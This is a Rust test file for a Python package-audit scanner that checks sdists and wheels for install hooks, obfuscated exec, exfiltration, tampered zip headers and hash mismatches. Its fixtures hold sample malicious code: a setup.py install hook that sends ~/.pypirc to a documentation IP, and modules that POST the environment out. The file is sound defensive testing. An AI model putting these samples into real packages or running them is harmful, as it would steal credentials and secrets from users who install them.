    let doc = serde_json::json!({
        "info": {"name": name, "project_urls": {"Source": "https://git.example/x"}},
        "releases": {"1.0": list}
    });
    server.route(
        &format!("/pypi/{name}/json"),
        vec![Reply::json(doc.to_string())],
    );
}

#[test]
fn the_sdist_is_scanned_only_where_an_installer_could_build_it() {
    let server = crate::server::Server::start();
    let tmp = tempfile::tempdir().unwrap();
    let setup = b"import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        data = open(os.path.expanduser('~/.pypirc')).read()\n        requests.post('http://203.0.113.9/collect', data=data)\n        install.run(self)\n\nsetup(name='inert', cmdclass={'install': Hook})\n";
    let wheel_bytes = |name: &str| {
        let w = wheel(
            tmp.path(),
            name,
            &[
                ("inert/__init__.py", b"VALUE = 1\n"),
                ("inert-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
            ],
        );
        std::fs::read(w).unwrap()
    };
    let sdist = |top: &str| {
        crate::common::targz_bytes(&[
            (&format!("{top}/setup.py"), setup),
            (&format!("{top}/inert/__init__.py"), b"VALUE = 1\n"),
        ])
    };
    // `purepkg` locks a pure wheel: installers take it, the sdist is never
    // built. `binpkg` has only a Linux wheel: elsewhere the sdist is built.
    serve_files(
        &server,
        "purepkg",
        &[
            ("purepkg-1.0.tar.gz", sdist("purepkg-1.0")),
            ("purepkg-1.0-py3-none-any.whl", wheel_bytes("p.whl")),
        ],
    );
    serve_files(
        &server,
        "binpkg",
        &[
            ("binpkg-1.0.tar.gz", sdist("binpkg-1.0")),
            (
                "binpkg-1.0-cp312-cp312-manylinux_2_17_x86_64.whl",
                wheel_bytes("b.whl"),
            ),
        ],
    );
    std::fs::write(
        tmp.path().join("requirements.txt"),
        "purepkg==1.0\nbinpkg==1.0\n",
    )
    .unwrap();
    let audit = |extra: &[&str]| {
        let mut cmd = audit_json(tmp.path(), &server.index_url());
        cmd.args(extra).arg("requirements.txt");
        let (code, out, err) = run(&mut cmd);
        assert!(code == 0 || code == 1, "{err}");
        json(&out)
    };
    let hooks = |report: &serde_json::Value| -> Vec<String> {
        let mut v: Vec<String> = report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] == "install-hook")
            .map(|f| f["package"].as_str().unwrap().to_string())
            .collect();
        v.sort();
        v
    };
    let scan_of = |report: &serde_json::Value, name: &str| {
        report["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .unwrap()["scan"]
            .clone()
    };
    let report = audit(&[]);
    assert_eq!(hooks(&report), ["binpkg"], "{report}");
    let pure = scan_of(&report, "purepkg");
    assert_eq!(pure["status"], "scanned");
    assert_eq!(
        pure["archives"],
        serde_json::json!(["purepkg-1.0-py3-none-any.whl"])
    );
    assert!(
        pure["reason"]
            .as_str()
            .unwrap()
            .starts_with("purepkg-1.0.tar.gz not scanned: installers take the pure wheel"),
        "{pure}"
    );
    assert_eq!(server.hits("/files/purepkg-1.0.tar.gz"), 0);
    assert_eq!(
        scan_of(&report, "binpkg")["archives"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    // --scan-sdists scans it too.
    let report = audit(&["--scan-sdists"]);
    assert_eq!(hooks(&report), ["binpkg", "purepkg"], "{report}");
    assert_eq!(server.hits("/files/purepkg-1.0.tar.gz"), 1);
}

/// Bytes that do not compress (a compiled extension's or a key's stand-in).
fn noise(n: usize) -> Vec<u8> {
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

/// A wheel streams in: of its extension only the head is kept, and it is
/// downloaded once. A wheel whose local header hides a module under another
/// name (the central directory, which installers read, calls it `.py`) is
/// read again whole, and what the module runs is found.
#[test]
fn a_wheel_streams_in_and_one_whose_headers_lie_is_read_whole() {
    let server = crate::server::Server::start();
    let tmp = tempfile::tempdir().unwrap();
    let mut ext = b"\x7fELF".to_vec();
    ext.extend(noise(2 << 20));
    let run = b"import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n";
    // A module whose payload comes after 48 kB of a literal that does not
    // compress: far past what is kept of a member read for its head.
    let mut hidden = format!("KEY = '{}'\n", hex::encode(noise(24_000))).into_bytes();
    hidden.extend_from_slice(run);
    let mut lines = String::from("# deps\n");
    for (project, lie) in [("plainext", false), ("lyingext", true)] {
        let name = format!("{project}-1.0-cp312-cp312-manylinux_2_17_x86_64.whl");
        let w = wheel(
            tmp.path(),
            &name,
            &[
                (&format!("{project}/hidden.py"), &hidden[..]),
                (&format!("{project}/__init__.py"), b"from ._ext import *\n"),
                // Last: the end of the file is always kept.
                (&format!("{project}/_ext.so"), &ext[..]),
                (
                    &format!("{project}-1.0.dist-info/WHEEL"),
                    b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\n",
                ),
            ],
        );
        let mut bytes = std::fs::read(&w).unwrap();
        if lie {
            hide_in_local_header(&mut bytes, project);
        }
        serve_releases(
            &server,
            project,
            &[Release {
                version: "1.0",
                filename: &name,
                bytes: &bytes,
                sha256: sha256_hex(&bytes),
                size: bytes.len() as u64,
            }],
        );
        lines.push_str(&format!("{project}==1.0\n"));
    }
    std::fs::write(tmp.path().join("requirements.txt"), lines).unwrap();
    let (code, out, err) = run_audit(tmp.path(), &server);
    assert_eq!(code, 1, "{err}");
    let report = json(&out);
    for (i, project) in ["lyingext", "plainext"].iter().enumerate() {
        let pkg = &report["packages"][i];
        assert_eq!(pkg["name"], *project, "{report}");
        assert_eq!(pkg["scan"]["status"], "scanned", "{pkg}");
        let found = report["findings"].as_array().unwrap().iter().any(|f| {
            f["package"] == *project
                && f["rule"] == "obfuscated-exec"
                && f["location"]["path"] == format!("{project}/hidden.py")
        });
        assert!(found, "{project}: {report}");
    }
    let file = |p: &str| format!("/files/{p}-1.0-cp312-cp312-manylinux_2_17_x86_64.whl");
    assert_eq!(server.hits(&file("plainext")), 1);
    assert_eq!(server.hits(&file("lyingext")), 2, "read again whole");
}

/// Renames `PROJECT/hidden.py` to `hidden.so` in its local header only, so
/// the zip's local headers and its central directory disagree.
fn hide_in_local_header(bytes: &mut [u8], project: &str) {
    let at = bytes
        .windows(4)
        .enumerate()
        .filter(|(_, w)| *w == b"PK\x03\x04")
        .map(|(i, _)| i)
        .find(|i| bytes[i + 30..].starts_with(format!("{project}/hidden.py").as_bytes()))
        .unwrap();
    let dot = at + 30 + project.len() + "/hidden.".len();
    bytes[dot..dot + 2].copy_from_slice(b"so");
}

/// An archive above 4 MiB is scanned as it downloads, in one request; an
/// sdist whose scan needs a second read (setup.py runs another file) and a
/// wheel whose local headers disagree with its directory are downloaded
/// again and read as before; bytes that are not the index's are never
/// judged.
#[test]
fn large_archives_are_scanned_as_they_download_and_read_again_when_they_must_be() {
    let server = crate::server::Server::start();
    let tmp = tempfile::tempdir().unwrap();
    // Inert: the address is a documentation range and nothing here runs.
    let post = b"import os, requests\nrequests.post('http://192.0.2.7/c', json=dict(os.environ))\n";
    let blob = noise(5 << 20);
    let plain = crate::common::targz_bytes(&[
        (
            "plainsd-1.0/setup.py",
            b"from setuptools import setup\nsetup(name='plainsd')\n",
        ),
        ("plainsd-1.0/data/blob.bin", &blob),
        ("plainsd-1.0/plainsd/__init__.py", post),
    ]);
    let runs = crate::common::targz_bytes(&[
        (
            "runsd-1.0/setup.py",
            b"from setuptools import setup\nexec(open('README.txt').read())\nsetup(name='runsd')\n",
        ),
        ("runsd-1.0/data/blob.bin", &blob),
        ("runsd-1.0/README.txt", post),
    ]);
    let mut lines = String::new();
    for (project, bytes) in [("plainsd", &plain), ("runsd", &runs)] {
        serve_files(
            &server,
            project,
            &[(&format!("{project}-1.0.tar.gz"), bytes.clone())],
        );
        lines.push_str(&format!("{project}==1.0\n"));
    }
    for (project, lie) in [("bigwheel", false), ("lyingwheel", true)] {
        let name = format!("{project}-1.0-cp312-cp312-manylinux_2_17_x86_64.whl");
        let w = wheel(
            tmp.path(),
            &name,
            &[
                (&format!("{project}/_ext.so"), &blob[..]),
                (&format!("{project}/hidden.py"), post),
                (
                    &format!("{project}-1.0.dist-info/WHEEL"),
                    b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\n",
                ),
            ],
        );
        let mut bytes = std::fs::read(&w).unwrap();
        if lie {
            hide_in_local_header(&mut bytes, project);
        }
        serve_files(&server, project, &[(&name, bytes)]);
        lines.push_str(&format!("{project}==1.0\n"));
    }
    // A download that breaks off after half the bytes: read whole at once
    // (not tried again under a scan that has read half), and scanned.
    serve_files(&server, "cutsd", &[("cutsd-1.0.tar.gz", plain.clone())]);
    server.route(
        "/files/cutsd-1.0.tar.gz",
        vec![
            crate::server::Reply::json(plain[..plain.len() / 2].to_vec())
                .header("Content-Length", &plain.len().to_string()),
            crate::server::Reply::json(plain.clone()),
        ],
    );
    lines.push_str("cutsd==1.0\n");
    // The index announces other bytes than it serves.
    serve_releases(
        &server,
        "liarsd",
        &[Release {
            version: "1.0",
            filename: "liarsd-1.0.tar.gz",
            bytes: &plain,
            sha256: sha256_hex(b"other bytes"),
            size: plain.len() as u64,
        }],
    );
    lines.push_str("liarsd==1.0\n");
    std::fs::write(tmp.path().join("requirements.txt"), lines).unwrap();
    let (code, out, err) = run_audit(tmp.path(), &server);
    assert_eq!(code, 1, "{err}");
    let report = json(&out);
    let found = |project: &str, path: &str| {
        report["findings"].as_array().unwrap().iter().any(|f| {
            f["package"] == project && f["rule"] == "exfiltration" && f["location"]["path"] == path
        })
    };
    assert!(
        found("plainsd", "plainsd-1.0/plainsd/__init__.py"),
        "{report}"
    );
    assert!(found("runsd", "runsd-1.0/README.txt"), "{report}");
    assert!(found("bigwheel", "bigwheel/hidden.py"), "{report}");
    assert!(found("lyingwheel", "lyingwheel/hidden.py"), "{report}");
    let scan = |project: &str| {
        report["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == project)
            .unwrap()["scan"]
            .clone()
    };
    assert_eq!(scan("plainsd")["status"], "scanned", "{report}");
    assert_eq!(scan("runsd")["status"], "scanned", "{report}");
    assert_eq!(scan("bigwheel")["status"], "scanned", "{report}");
    assert_eq!(scan("lyingwheel")["status"], "scanned", "{report}");
    assert_eq!(server.hits("/files/plainsd-1.0.tar.gz"), 1);
    assert_eq!(scan("cutsd")["status"], "scanned", "{report}");
    assert!(
        found("cutsd", "plainsd-1.0/plainsd/__init__.py"),
        "{report}"
    );
    assert_eq!(
        server.hits("/files/cutsd-1.0.tar.gz"),
        2,
        "broken off, then whole"
    );
    assert_eq!(
        server.hits("/files/runsd-1.0.tar.gz"),
        2,
        "read again whole"
    );
    let file = |p: &str| format!("/files/{p}-1.0-cp312-cp312-manylinux_2_17_x86_64.whl");
    assert_eq!(server.hits(&file("bigwheel")), 1);
    // As it streamed, then keeping what the scan reads (`hidden.py` is
    // small enough to be kept whole as any member's head).
    assert_eq!(server.hits(&file("lyingwheel")), 2);
    // The liar's bytes are the plain sdist's: what the scan of them found
    // is not reported, the mismatch is.
    assert!(
        !found("liarsd", "plainsd-1.0/plainsd/__init__.py"),
        "{report}"
    );
    let mismatch = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["package"] == "liarsd" && f["rule"] == "hash-mismatch");
    assert!(mismatch, "{report}");
}

fn run_audit(dir: &Path, server: &crate::server::Server) -> (i32, String, String) {
    run(audit_json(dir, &server.index_url()).arg(dir.join("requirements.txt")))
}

/// Every archive under `CUSTOMS_AGREE_DIR` (recursively) read once as it
/// streams in, a few KiB at a time, finds what the read of the whole file
/// finds, or says it must be read whole. Not run by default (it reads real
/// archives: the eval sets, a bench's downloads):
///
///     CUSTOMS_AGREE_DIR=/path cargo test --release --test it streamed_reads_agree -- --ignored --nocapture
#[test]
#[ignore = "reads real archives from CUSTOMS_AGREE_DIR"]
fn streamed_reads_agree_with_whole_reads() {
    use customs::scan::{Limits, archive::Once, scan_bytes, scan_stream};
    let Ok(dir) = std::env::var("CUSTOMS_AGREE_DIR") else {
        eprintln!("skipped: CUSTOMS_AGREE_DIR is not set");
        return;
    };
    let mut files = Vec::new();
    let mut dirs = vec![PathBuf::from(dir)];
    while let Some(d) = dirs.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                dirs.push(p);
            } else {
                files.push(p);
            }
        }
    }
    files.sort();
    let limits = Limits::default();
    let (mut same, mut whole, mut differ) = (0, 0, Vec::new());
    let mut why: std::collections::BTreeMap<String, usize> = std::collections::BTreeMap::new();
    for path in &files {
        let bytes = std::fs::read(path).unwrap();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let Ok(expected) = scan_bytes(&name, &bytes, &limits) else {
            continue;
        };
        let reader = std::io::Cursor::new(bytes.clone());
        let once = Once::new(Box::new(Trickle(reader)), bytes.len() as u64);
        match scan_stream(&name, &once, &limits).unwrap() {
            None => {
                whole += 1;
                // Said without names and numbers, to count alike reasons.
                let reason: String = once
                    .failure()
                    .unwrap_or_default()
                    .split('`')
                    .step_by(2)
                    .collect::<String>()
                    .chars()
                    .filter(|c| !c.is_ascii_digit())
                    .collect();
                *why.entry(reason).or_default() += 1;
            }
            Some(got) => {
                let key = |s: &customs::scan::ArchiveScan| {
                    let mut v: Vec<String> = s
                        .findings
                        .iter()
                        .map(|(m, f)| format!("{m:?} {:?} {:?} {:?}", f.rule, f.severity, f.line))
                        .collect();
                    v.sort();
                    (v, s.gaps.clone(), s.members)
                };
                if key(&got) == key(&expected) {
                    same += 1;
                } else {
                    differ.push(name);
                }
            }
        }
    }
    eprintln!(
        "{} archives: {same} read once alike, {whole} to read whole, {} differ",
        files.len(),
        differ.len()
    );
    for (reason, n) in &why {
        eprintln!("  {n} read whole: {reason}");
    }
    assert!(differ.is_empty(), "{differ:?}");
}

/// A reader that gives at most 16 KiB at a time, as a network does.
struct Trickle<R>(R);

impl<R: std::io::Read> std::io::Read for Trickle<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = buf.len().min(16 * 1024);
        self.0.read(&mut buf[..n])
    }
}
